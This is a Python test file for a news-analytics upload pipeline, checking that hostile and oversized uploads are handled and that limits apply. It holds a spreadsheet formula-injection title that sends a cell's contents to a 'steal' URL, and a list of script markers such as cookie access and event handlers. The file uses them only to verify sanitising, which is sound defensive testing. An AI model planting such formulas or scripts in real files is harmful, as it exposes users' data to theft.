"""Hostile and edge-case files (built by ``tests/hostile/files.py``) through the real upload
path, ``dashboard.data.read_uploads`` with the settings' caps, and the ingest pipeline into a
fresh SQLite store, with the exact outcome of each; after each one, a good file still reads.

What each reader makes of such files is tested module by module in ``tests/analytics/readers/``.
"""

from __future__ import annotations

import time

import pytest
from hostile import files
from hostile.files import CASES, GOOD_TEXT, Case
from spacy.language import Language
from sqlalchemy import Engine

from analytics import store
from analytics.models import ReadOutcome
from analytics.pipeline import ingest_outcomes
from analytics.readers import read_upload
from analytics.settings import Limits, Settings, load_settings
from dashboard import data as dashboard_data

LIMIT_VARIABLES = (
    "NEWS_MAX_UPLOAD_MB",
    "NEWS_MAX_FILES",
    "NEWS_MAX_ARTICLE_CHARS",
    "NEWS_MAX_ARCHIVE_ENTRIES",
    "NEWS_MAX_UNCOMPRESSED_MB",
    "NEWS_MAX_COMPRESSION_RATIO",
    "NEWS_MAX_ARCHIVE_DEPTH",
    "NEWS_PARSE_TIMEOUT_S",
    "NEWS_PARSE_MEMORY_MB",
)
GOOD_PDF = files.text_pdf([["A good report", None, "The next upload works as before."]])


@pytest.fixture
def settings_env(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """The default limits, whatever the environment running the tests sets."""
    for variable in LIMIT_VARIABLES:
        monkeypatch.delenv(variable, raising=False)
    return monkeypatch


def rows(engine: Engine, nlp: Language, outcomes: list[ReadOutcome]) -> list[tuple[str, ...]]:
    return [
        (result.name, result.status, result.reason)
        for result in ingest_outcomes(engine, nlp, outcomes)
    ]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_file(
    case: Case, settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    for variable, value in case.env.items():
        settings_env.setenv(variable, value)
    data = case.build()

    started = time.perf_counter()
    outcomes = dashboard_data.read_uploads(((case.name, data),))
    seconds = time.perf_counter() - started

    assert rows(engine, nlp, outcomes) == list(case.expected(data))
    assert seconds < 15, f"{case.id} took {seconds:.1f} s"
    # The single-outcome API agrees: the same outcome, or the entries' articles put together.
    merged = read_upload(case.name, data, limits=load_settings())
    if len(outcomes) == 1 and outcomes[0].name == case.name:
        assert merged == outcomes[0]
    else:
        assert merged.articles == tuple(a for outcome in outcomes for a in outcome.articles)
    # The next upload works as if nothing had happened (a PDF: through the worker process).
    (after,) = dashboard_data.read_uploads((("after.pdf", GOOD_PDF),))
    assert (after.error, [a.title for a in after.articles]) == ("", ["A good report"])


# --- what the accepted files become in the store ---------------------------------------------


def test_no_sentence_punctuation_is_stored_with_reliability_flags(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("notes.txt", files.no_punctuation_text()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    flags = store.flag_table(engine)
    reasons = flags.loc[flags["article_id"] == result.article_id, "reason"]
    assert result.status == "added"
    assert reasons.str.contains("no sentence punctuation").any()


def test_formula_title_is_stored_verbatim(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("formula.csv", files.formula_csv()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    assert detail["title"] == '=HYPERLINK("http://example.com/steal?d="&A1,"Click me")'


def test_script_and_event_handlers_are_not_in_the_body(
    settings_env: pytest.MonkeyPatch, engine: Engine, nlp: Language
) -> None:
    outcomes = dashboard_data.read_uploads((("page.html", files.script_html()),))
    (result,) = ingest_outcomes(engine, nlp, outcomes)
    detail = store.article_detail(engine, result.article_id)
    assert detail is not None
    body = detail["body"]
    assert "Residents can comment until the end of the month." in body
    for script in ("document.cookie", "evil.example", "alert", "onerror", "<script"):
        assert script not in body


# --- limits through the upload page and the settings -----------------------------------------


def test_too_many_files_in_one_upload(settings_env: pytest.MonkeyPatch) -> None:
    settings_env.setenv("NEWS_MAX_FILES", "2")
    uploads = tuple((f"{n}.txt", GOOD_TEXT.encode()) for n in range(3))
    message = "too many files in one upload: 3; the limit is 2 (NEWS_MAX_FILES)"
    assert dashboard_data.read_uploads(uploads) == [
        ReadOutcome(f"{n}.txt", error=message) for n in range(3)
    ]


def test_settings_have_the_limits_with_defaults() -> None:
    settings = load_settings({})
    assert isinstance(settings, Limits)  # the settings carry the limits, one definition
    assert (
        settings.max_upload_mb,
        settings.max_files,
        settings.max_article_chars,
        settings.max_archive_entries,
        settings.max_uncompressed_mb,
        settings.max_compression_ratio,
        settings.max_archive_depth,
        settings.parse_timeout_s,
        settings.parse_memory_mb,
    ) == (50, 200, 1_000_000, 500, 200, 100, 2, 20, 1024)
    assert load_settings({"NEWS_PARSE_TIMEOUT_S": "2.5", "NEWS_MAX_ARCHIVE_DEPTH": "1"}) == (
        Settings(
            db_url=settings.db_url,
            spacy_model=settings.spacy_model,
            data_dir=settings.data_dir,
            parse_timeout_s=2.5,
            max_archive_depth=1,
        )
    )
